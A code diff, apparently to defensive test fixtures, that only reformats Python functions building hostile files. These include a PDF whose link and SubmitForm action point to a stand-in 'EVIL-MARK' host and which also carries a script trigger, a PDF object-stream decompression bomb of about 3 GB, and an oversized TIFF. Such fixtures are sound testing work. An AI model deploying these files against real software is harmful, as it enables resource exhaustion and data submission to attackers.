@@ -6,8 +6,8 @@ import struct
 import zlib
 
 import pikepdf
-from PIL import Image, ImageDraw
 from pikepdf import Array, Dictionary, Name, Stream, String
+from PIL import Image, ImageDraw
 
 
 def scan_pdf(pages: int = 1) -> pikepdf.Pdf:
@@ -45,7 +45,8 @@ def acting_pdf() -> bytes:
     box = Array([0, 0, 50, 50])
     page.Annots = Array([
         Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, A=Dictionary(S=Name.URI, URI=String("http://EVIL-MARK.example"))),
-        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=box, RichMediaContent=Dictionary(Note=String("EVIL-MARK")))),
+        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=box,
+                                     RichMediaContent=Dictionary(Note=String("EVIL-MARK")))),
         Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=box, FS=spec),
         Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Rect=box,
                    A=Dictionary(S=Name.SubmitForm, F=String("http://EVIL-MARK.example")), AA=Dictionary(U=script)),
@@ -65,7 +66,8 @@ def object_stream_bomb(unpacked: int = 3_000_000_000) -> bytes:
     body = zlib.compress(packed, 9)
     out = b"%PDF-1.5\n"
     stream_at = len(out)
-    out += (b"4 0 obj\n<</Type/ObjStm/N 2/First 10/Length %d/Filter[/FlateDecode/FlateDecode]>>\nstream\n" % len(body)) + body + b"\nendstream\nendobj\n"
+    out += b"4 0 obj\n<</Type/ObjStm/N 2/First 10/Length %d/Filter[/FlateDecode/FlateDecode]>>\nstream\n" % len(body)
+    out += body + b"\nendstream\nendobj\n"
     table_at = len(out)
     rows = [(0, 0, 255), (2, 4, 0), (2, 4, 1), (0, 0, 0), (1, stream_at, 0), (1, table_at, 0)]
     table = b"".join(struct.pack(">BIB", *row) for row in rows)
@@ -93,7 +95,8 @@ def tiff_of_empty_pages(pages: int, side: int = 8000) -> bytes:
     with Image.open(one) as read:
         offset, length = read.tag_v2[273][0], read.tag_v2[279][0]
     strip = one.getvalue()[offset:offset + length]
-    tags = [(256, 3, side), (257, 3, side), (258, 3, 1), (259, 3, 4), (262, 3, 0), (273, 4, 8), (277, 3, 1), (278, 3, side), (279, 4, len(strip))]
+    tags = [(256, 3, side), (257, 3, side), (258, 3, 1), (259, 3, 4), (262, 3, 0), (273, 4, 8), (277, 3, 1), (278, 3, side),
+            (279, 4, len(strip))]
     size = 2 + 12 * len(tags) + 4
     start = 8 + len(strip) + len(strip) % 2
     out = b"II*\0" + struct.pack("<I", start) + strip + b"\0" * (len(strip) % 2)
